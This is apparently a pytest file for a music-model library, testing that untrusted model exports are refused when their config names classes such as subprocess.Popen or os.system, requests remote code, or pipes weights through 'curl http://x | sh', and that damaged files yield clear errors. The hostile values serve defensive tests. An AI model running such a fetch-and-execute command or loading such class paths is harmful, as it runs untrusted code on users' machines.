"""Loading an untrusted export runs no code the caller did not choose, and damaged files get one error
naming the file (from the library and from the commands)."""

from __future__ import annotations

import shutil
import warnings
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
import yaml

from stylecond.cli import main
from stylecond.codecs.mel_codec import MelCodec
from stylecond.models.checkpoints import check_checkpoint_file, export_checkpoint
from stylecond.models.config_safety import checked_config, read_config_file
from stylecond.models.style_musicgen import StyleMusicGen


class CallerCodec(MelCodec):
    """A codec class outside stylecond that a caller chooses to trust."""


@pytest.fixture()
def export(legacy_export_dir: Path, tmp_path: Path) -> Path:
    out = tmp_path / "export"
    shutil.copytree(legacy_export_dir, out)
    return out


def _edit_config(export: Path, **codec: object) -> None:
    config = yaml.safe_load((export / "config.yaml").read_text())
    config["init_args"]["codec"].update(codec)
    (export / "config.yaml").write_text(yaml.safe_dump(config))


@pytest.mark.parametrize(
    "class_path",
    [
        "subprocess.Popen",
        "builtins.eval",
        "stylecond.models.config_safety.importlib",
        "MelCodec",
        "os.system",
    ],
)
def test_foreign_class_paths_are_refused_before_anything_is_built(export: Path, class_path: str) -> None:
    _edit_config(export, class_path=class_path)
    with pytest.raises(ValueError, match=r"config\.yaml: init_args\.codec\.class_path names") as info:
        StyleMusicGen.from_pretrained(export)
    assert class_path in str(info.value) and "allow_class_paths" in str(info.value)


def test_a_class_the_caller_allows_loads(export: Path) -> None:
    path = f"{__name__}.CallerCodec"
    _edit_config(export, class_path=path)
    with pytest.raises(ValueError, match="not a stylecond class"):
        StyleMusicGen.from_pretrained(export)
    model = StyleMusicGen.from_pretrained(export, allow_class_paths=[path])
    assert type(model.codec) is CallerCodec
    assert model.generate(texts=["x"], duration=0.2, seed=0).shape[-1] > 0


def test_remote_code_and_pipes_only_from_the_caller() -> None:
    config = {"class_path": "stylecond.models.style_musicgen.StyleMusicGen",
              "init_args": {"text_conditioner": {"init_args": {"trust_remote_code": True}}}}  # fmt: skip
    with pytest.warns(UserWarning, match=r"init_args\.text_conditioner\.init_args\.trust_remote_code"):
        safe = checked_config(config, source="x.yaml")
    assert safe["init_args"]["text_conditioner"]["init_args"]["trust_remote_code"] is False
    assert config["init_args"]["text_conditioner"]["init_args"]["trust_remote_code"] is True  # a copy
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        trusted = checked_config(config, source="x.yaml", trust_remote_code=True)
    assert trusted["init_args"]["text_conditioner"]["init_args"]["trust_remote_code"] is True
    piped = {"class_path": "stylecond.models.style_musicgen.StyleMusicGen",
             "init_args": {"codec": {"init_args": {"weights": " pipe:curl http://x | sh"}}}}  # fmt: skip
    with pytest.raises(ValueError, match=r"x.yaml: init_args\.codec\.init_args\.weights is a pipe: URL"):
        checked_config(piped, source="x.yaml")


@pytest.mark.parametrize(
    ("content", "message"),
    [(b"", "is empty"), (b"class_path: [unclosed\n", "is not valid YAML at line"), (b"\xff\xfe\x00garbage", "not a text file"),
     (b"- just\n- a list\n", "is not a model config"), (b"init_args: {}\n", "is not a model config")],
)  # fmt: skip
def test_damaged_config_names_the_file(
    export: Path, content: bytes, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (export / "config.yaml").write_bytes(content)
    with pytest.raises(ValueError, match=message) as info:
        StyleMusicGen.from_pretrained(export)
    assert str(export / "config.yaml") in str(info.value)
    for command in (
        ["generate", "--text", "x", "--out", str(export / "o.wav")],
        ["invert", "--audio", "a.wav"],
    ):
        with pytest.raises(SystemExit) as exit_info:
            main([command[0], "--model", str(export), *command[1:]])
        assert exit_info.value.code == 2
        err = capsys.readouterr().err
        assert str(export / "config.yaml") in err and "Traceback" not in err


def test_truncated_weights_name_the_file(export: Path, capsys: pytest.CaptureFixture[str]) -> None:
    weights = export / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:100])
    with pytest.raises(ValueError, match="cannot be read as safetensors"):
        StyleMusicGen.from_pretrained(export)
    with pytest.raises(SystemExit):
        main(["generate", "--model", str(export), "--text", "x", "--out", str(export / "o.wav")])
    assert f"{weights} cannot be read as safetensors" in capsys.readouterr().err
    assert read_config_file(export / "config.yaml")["class_path"].endswith("StyleMusicGen")


def test_half_a_checkpoint_names_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], debug_args: Callable[..., list[str]]
) -> None:
    ckpt = tmp_path / "last.ckpt"
    torch.save({"state_dict": {"w": torch.zeros(1000)}, "stylecond_config": {}}, ckpt)
    check_checkpoint_file(ckpt)  # whole: fine
    ckpt.write_bytes(ckpt.read_bytes()[: ckpt.stat().st_size // 2])
    with pytest.raises(ValueError, match=r"last\.ckpt is not a readable checkpoint"):
        check_checkpoint_file(ckpt)
    with pytest.raises(ValueError, match=r"last\.ckpt cannot be read"):
        export_checkpoint(ckpt, tmp_path / "out")
    with pytest.raises(SystemExit) as exit_info:
        main(["export", str(ckpt), str(tmp_path / "out")])
    assert exit_info.value.code == 2 and str(ckpt) in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_info:
        main(["fit", *debug_args(), "--ckpt_path", str(ckpt)])  # refused before anything is built
    assert exit_info.value.code == 2
    assert f"--ckpt_path: {ckpt} is not a readable checkpoint" in capsys.readouterr().err
